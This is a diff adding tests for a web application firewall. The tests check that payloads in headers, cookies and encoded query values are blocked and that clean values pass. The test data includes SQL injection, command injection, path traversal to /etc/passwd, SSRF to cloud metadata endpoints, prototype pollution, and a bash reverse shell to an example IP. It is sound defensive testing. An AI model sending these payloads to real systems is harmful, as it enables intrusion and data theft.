@@ -392,3 +392,84 @@ describe('waf API profile: NDJSON media types with a structured suffix (FHIR bul
     );
   });
 });
+
+describe('waf API profile: headers, cookies, member names and query encodings (session 6)', () => {
+  const get = (path: string, headers: Record<string, string> = {}): Init => ({
+    method: 'GET',
+    path: path.split('?')[0] as string,
+    query: path.includes('?') ? path.slice(path.indexOf('?') + 1) : '',
+    headers: { ...ua, ...headers },
+  });
+  const b64 = (s: string) => encodeURIComponent(Buffer.from(s).toString('base64'));
+
+  test('payloads in client-address headers, custom headers and cookies are blocked', async () => {
+    for (const [headers, reason] of [
+      [
+        { 'x-forwarded-for': '1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x78))s), 1, 2)))' },
+        'protocol-attack',
+      ],
+      [{ 'x-forwarded-for': '|| powershell -nop -w hidden -enc SQBFAFgA' }, 'protocol-attack'],
+      [{ 'x-real-ip': '....//....//etc/passwd' }, 'protocol-attack'],
+      [{ 'x-forwarded-for': "'-alert(1)-'" }, 'protocol-attack'],
+      [{ 'x-device-id': '$(sleep 5)' }, 'rce'],
+      [{ 'x-api-version': 'http://169.254.169.254.nip.io/latest/meta-data/' }, 'ssrf'],
+      [{ 'x-device-id': "' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))-- -" }, 'sqli'],
+      [{ cookie: "sid=abc; last_section=admin' || '1'=='1" }, 'sqli'],
+      [
+        {
+          cookie:
+            'sid=abc; prefs=j%3A%7B%22constructor%22%3A%7B%22prototype%22%3A%7B%22isAdmin%22%3Atrue%7D%7D%7D',
+        },
+        'prototype-pollution',
+      ],
+      [{ cookie: 'locale=%7B%7B%23with%20%22s%22%20as%20%7Cstring%7C%7D%7D' }, 'template'],
+    ] as const) {
+      const r = await run(api, get('/api/contacts?page=1', headers));
+      assert.equal(r.error?.reason, `waf:${reason}`, JSON.stringify(headers));
+    }
+  });
+
+  test('ordinary address lists, origins on localhost and cookies pass', async () => {
+    const cleanHeaders: Record<string, string>[] = [
+      { 'x-forwarded-for': '203.0.113.7, 10.0.0.2, 2001:db8::1' },
+      { 'x-real-ip': '[2001:db8:cafe::17]:4711' },
+      { 'x-forwarded-for': 'unknown, _hidden' },
+      { origin: 'http://localhost:3000', referer: 'http://localhost:3000/contacts' },
+      {
+        cookie:
+          '_ga=GA1.1.931408219.8110007533; sid=BBEyH4xtCvA4o88PUD5EJJYeS0k-KmU6fE8PG9hj; tz=Europe%2FBerlin',
+      },
+      { 'x-request-id': 'c5c2db21-ea87-4ccb-8406-fd104ad26f99', 'x-api-version': '2024-06-01' },
+    ];
+    for (const headers of cleanHeaders) {
+      assert.equal(
+        (await run(api, get('/api/contacts?page=1', headers))).error,
+        undefined,
+        JSON.stringify(headers),
+      );
+    }
+  });
+
+  test('a command in a member name, an operator over an empty array, payloads in base64 or double-encoded query values', async () => {
+    for (const doc of [
+      { notifications: { push: true, '| id': true } },
+      { email: 'a@b.example', password: { $nin: [] } },
+    ]) {
+      assert.ok((await run(api, post(doc))).error !== undefined, JSON.stringify(doc));
+    }
+    for (const path of [
+      `/api/contacts?page[cursor]=${b64('{"after":"http://metadata.google.internal/computeMetadata/v1/","dir":"next"}')}`,
+      `/api/contacts?page[cursor]=${b64('{"after":";bash -i >& /dev/tcp/198.51.100.3/4444 0>&1"}')}`,
+      '/api/contracts?filter%5Bcounterparty%5D=%255B%255B%2524%257B7%252A7%257D%255D%255D',
+    ]) {
+      assert.ok((await run(api, get(path))).error !== undefined, path);
+    }
+    // Clean cursors and filters decode to clean values.
+    for (const path of [
+      `/api/contacts?page[cursor]=${b64('{"after":"c_8f2a","dir":"next"}')}&page[size]=50`,
+      `/api/search?filter=${encodeURIComponent('{"status":"open","owner":"me"}')}`,
+    ]) {
+      assert.equal((await run(api, get(path))).error, undefined, path);
+    }
+  });
+});
